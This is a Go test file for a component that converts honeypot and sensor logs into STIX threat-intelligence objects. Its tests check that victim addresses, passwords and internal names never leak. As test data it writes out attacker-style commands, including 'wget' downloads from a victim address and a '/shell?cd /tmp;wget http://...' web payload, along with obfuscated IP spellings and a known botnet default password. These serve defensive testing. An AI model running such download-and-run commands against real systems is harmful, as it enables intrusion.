package evidence_test

import (
	"math/rand/v2"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cabstand/cabstand/collectors/evidence"
	"github.com/cabstand/cabstand/logs"
	"github.com/cabstand/cabstand/stix"
)

// Spellings of the address of a victim that an attacker sends, or that are in names of hosts.
func TestVictims_AreInNoObject(t *testing.T) {
	spellings := []string{
		"198.51.100.7", "x198.51.100.7", "1198.51.100.7", "198.51.100.72001", "a198.51.100.7:23", "1.198.51.100.7", "198[.]51[.]100[.]7",
		"198%2e51%2E100%2e7", "198-51-100-7.example", "::ffff:198.51.100.7", "2001:db8:7::7", "2001:DB8:7:0::7",
		"[2001:db8:7::7]:80", "2001%3Adb8%3a7%3A%3a7", "ab2001:db8:7::7", "/2001:db8:7:0:0:0:0:7",
		"198.051.100.007", "198[dot]51[DOT]100(dot)7", "198 dot 51 dot 100 dot 7", "198[.51.]100{.}7", "198%252e51%252e100%252e7",
		"0306.063.0144.07", "http://3325256711/a", "3325256711/a", "http://0xC6336407/a",
		"7.100.51.198.in-addr.arpa", "7.100.51.198.IN-ADDR.ARPA.", "100.51.198.in-addr.arpa", "7-100-51-198.static.example.net",
		"2002:c633:6407::1", "64:ff9b::c633:6407", "::c633:6407", "2001[:]db8[:]7[:][:]7", "2001%253adb8%253a7%253a%253a7",
		"7.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.7.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa", "7.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa",
	}
	for _, spelling := range spellings {
		e := attempt("203.0.113.9", start())
		e.Action, e.Command = logs.Run, "wget "+spelling
		o := evidence.Options{HomeNets: []netip.Prefix{
			netip.MustParsePrefix("198.51.100.0/24"), netip.MustParsePrefix("2001:db8:7::/48"),
		}}
		got, counts := makeAll(t, o, []logs.Event{e})
		if n := len(got.of("process")); n != 0 || counts.Withheld != 1 {
			t.Errorf("%s leaves: %d commands, %d withheld", spelling, n, counts.Withheld)
		}
		o.Pseudonyms = pseudonyms(t)
		got, _ = makeAll(t, o, []logs.Event{e})
		if p := got.of("process"); len(p) == 1 && !strings.Contains(string(p[0].Raw), "anon-v") {
			t.Errorf("%s leaves as %s", spelling, p[0].Raw)
		}
	}
	for _, harmless := range []string{"198.51.101.7", "198.51.1007.1", "1.2.3", "12:30:00",
		"7.100.51.198", "3325256711", "51.198.in-addr.arpa", "7.101.51.198.in-addr.arpa"} {
		e := attempt("203.0.113.9", start())
		e.Action, e.Command, e.Destination.Addr = logs.Run, "wget "+harmless, netip.Addr{}
		o := evidence.Options{HomeNets: []netip.Prefix{netip.MustParsePrefix("198.51.100.0/24")}}
		if got, _ := makeAll(t, o, []logs.Event{e}); len(got.of("process")) != 1 {
			t.Errorf("%s does not leave", harmless)
		}
	}
}

// Whatever is behind the escapes of a URL counts like what stands there.
func TestVictims_AreFoundBehindEscapes(t *testing.T) {
	e := attempt("203.0.113.9", start())
	e.Format, e.Action, e.Method = logs.Web, logs.Request, "GET"
	e.URL = "/shell?cd+/tmp;wget+http://%31%398.51.100.7/x"
	got, _ := makeAll(t, evidence.Options{}, []logs.Event{e})
	for _, o := range got.all {
		if strings.Contains(string(o.Raw), "98.51.100") {
			t.Errorf("%s", o.Raw)
		}
	}
	if len(got.all) == 0 {
		t.Error("nothing is told of the attack")
	}
}

// A name that is tried may be an address, too.
func TestVictims_AreNoUsers(t *testing.T) {
	e := attempt("203.0.113.9", start())
	e.User = "198.51.100.7"
	got, counts := makeAll(t, evidence.Options{}, []logs.Event{e})
	if len(got.of("user-account")) != 0 || counts.Refused["user-account has the address of a victim"] != 1 {
		t.Errorf("%+v", counts)
	}
}

// What runs on a machine that people work with is in no object, whatever else is.
func TestAdd_TellsCommandsOfHoneypotsOnly(t *testing.T) {
	var all []logs.Event
	for i := range 12 {
		e := attempt("203.0.113.9", start())
		e.Format = logs.Form
		if e.Session = "s1"; i%2 == 0 {
			e.Action, e.Command = logs.Run, "/bin/busybox mount"
		}
		all = append(all, e, e)
	}
	known := func(string) string { return "indicator--0f3b2a54-3c55-4c7e-9a0c-51b0d2c9d7f1" }
	for honeypot, want := range map[bool]int{true: 1, false: 0} {
		got, _ := makeAll(t, evidence.Options{Honeypot: honeypot, Sighted: known}, all)
		if n := len(got.of("process")); n != want {
			t.Errorf("%d commands, on a honeypot %t", n, honeypot)
		}
	}
}

// Who is attacked from outside is a victim, whether the operator knows the network or not.
func TestVictims_AreDestinationsToo(t *testing.T) {
	e := attempt("203.0.113.9", start())
	e.Action, e.URL = logs.Download, "http://198.51.100.7/x"
	got, counts := makeAll(t, evidence.Options{}, []logs.Event{e, attempt("198.51.100.7", start())})
	for _, o := range got.all {
		if strings.Contains(string(o.Raw), "198.51.100.7") {
			t.Errorf("%s", o.Raw)
		}
	}
	if counts.Untold != 1 {
		t.Errorf("%+v", counts)
	}
}

func TestVictims_TooManyAreAnError(t *testing.T) {
	a := newAggregator(t, evidence.Options{})
	var err error
	for i := range 1<<16 + 1 {
		e := attempt("203.0.113.9", start())
		e.Destination.Addr = netip.AddrFrom4([4]byte{20, byte(i >> 16), byte(i >> 8), byte(i)})
		if err = a.Add(e, int64(i), nil); err != nil {
			break
		}
	}
	if err == nil || !strings.Contains(err.Error(), "say which networks are yours") {
		t.Error(err)
	}
}

// random makes events of all sorts, with texts that mention whoever is about.
type random struct {
	*rand.Rand
	home, others []string
}

func pick[T any](r random, list ...T) T { return list[r.IntN(len(list))] }

func (r random) text() string {
	parts := []string{
		"wget http://", pick(r, r.home...), pick(r, r.others...), "/x;cd /tmp", ":80", " user=jane",
		" Bearer abcdefgh12345678 ", "/bin/busybox", "jane@example.com", "\x00\u202e", "a.own.example", "'\\\"", "%2e",
		"http://203.0.113.80/m", " 10.1.2.3 ", "-", "sensor7", strings.Repeat("A", r.IntN(1200)),
	}
	var b strings.Builder
	for range r.IntN(6) {
		b.WriteString(pick(r, parts...))
	}
	return b.String()
}

func (r random) event() logs.Event {
	end := func(list []string) logs.Endpoint {
		return logs.Endpoint{
			Addr: netip.MustParseAddr(pick(r, list...)), Port: uint16(r.IntN(3) * 23), Name: pick(r, "", "db7.own.example"),
		}
	}
	e := logs.Event{
		Format: pick(r, append(logs.Formats(), logs.Form)...),
		Time:   start().Add(time.Duration(r.IntN(7200)-60) * time.Second), Count: int64(r.IntN(9)) * pick(r, int64(1), 1<<61),
		Action: pick(r, logs.Request, logs.Query, logs.Answer, logs.Transfer, logs.Connection, logs.Handshake,
			logs.Login, logs.NoUser, logs.Disconnect, logs.Run, logs.Download, logs.Upload, logs.Carry, logs.Forward,
			logs.Alert, logs.Other),
		Outcome: pick(r, "", logs.Failed, logs.Succeeded, logs.Denied), Transport: pick(r, "", "tcp", r.text()),
		Service: pick(r, "", "telnet", r.text()), Sensor: "sensor7", Host: pick(r, "", "www.own.example"),
		User: pick(r, "root", r.text()), Password: logs.Secret(pick(r, "vizxv", "Zq7Jx9Wv3Kp5")), Method: pick(r, "GET", r.text()),
		URL: pick(r, "/", "http://203.0.113.80/m", r.text()), Status: 404, Referrer: r.text(), UserAgent: r.text(),
		Query: pick(r, "a.c2.example.net", r.text()), Command: r.text(), Message: r.text(), Session: pick(r, "", "s1", "s2"),
		File:      logs.File{Name: r.text(), SHA256: pick(r, "", strings.Repeat("4b1e0f6d", 8), r.text())},
		Signature: logs.Signature{ID: pick(r, "CVE-2099-0001", "7", r.text()), Name: r.text(), Category: r.text(), Severity: r.IntN(3)},
	}
	if r.IntN(4) == 0 {
		e.Source, e.Destination = end(r.home), end(r.others)
		return e
	}
	e.Source, e.Destination = end(r.others), end(r.home)
	return e
}

// Whatever lines say, no address of the home networks, no password, and nothing of whose kind
// should not leave is in any byte, and every object is one of STIX.
func FuzzAdd_NothingOfVictimsLeaves(f *testing.F) {
	for seed := range uint64(8) {
		f.Add(seed, seed%2 == 0)
	}
	f.Fuzz(func(t *testing.T, seed uint64, key bool) {
		r := random{
			Rand:   rand.New(rand.NewPCG(seed, 0)),
			home:   []string{"198.51.100.7", "198.51.100.99", "2001:db8:7::7%eth0", "::ffff:198.51.100.8", "192.0.2.77"},
			others: []string{"203.0.113.9", "203.0.113.10", "2001:db8:bad::5"},
		}
		o := evidence.Options{
			HomeNets: []netip.Prefix{
				netip.MustParsePrefix("::ffff:198.51.100.0/120"), netip.MustParsePrefix("2001:db8:7::/48"),
				netip.MustParsePrefix("192.0.2.77/32"),
			},
			OwnDomains: []string{"own.example"}, SuspectDomains: []string{"c2.example.net"}, MaxBuckets: 10, MinFailed: 1,
			Honeypot: seed%3 == 0,
		}
		if key {
			o.Pseudonyms = pseudonyms(t)
		}
		var all []logs.Event
		for range 200 {
			all = append(all, r.event())
		}
		got, counts := makeAll(t, o, all)
		for _, object := range got.all {
			neverIn(t, object, "198.51.100.7", "198.51.100.99", "198.51.100.8", "2001:db8:7", "192.0.2.77", "own.example",
				"sensor7", "Zq7Jx9Wv3Kp5", "jane", "Bearer", "10.1.2.3")
		}
		if sum := counts.NoSource + counts.Home + counts.Passed; counts.Events != 200 || sum >= 200 {
			t.Errorf("%+v", counts)
		}
	})
}

func neverIn(t *testing.T, o stix.Object, words ...string) {
	t.Helper()
	text := strings.ToLower(string(o.Raw))
	if i := slices.IndexFunc(words, func(w string) bool { return strings.Contains(text, strings.ToLower(w)) }); i >= 0 {
		t.Errorf("%s in %s", words[i], o.Raw)
	}
}
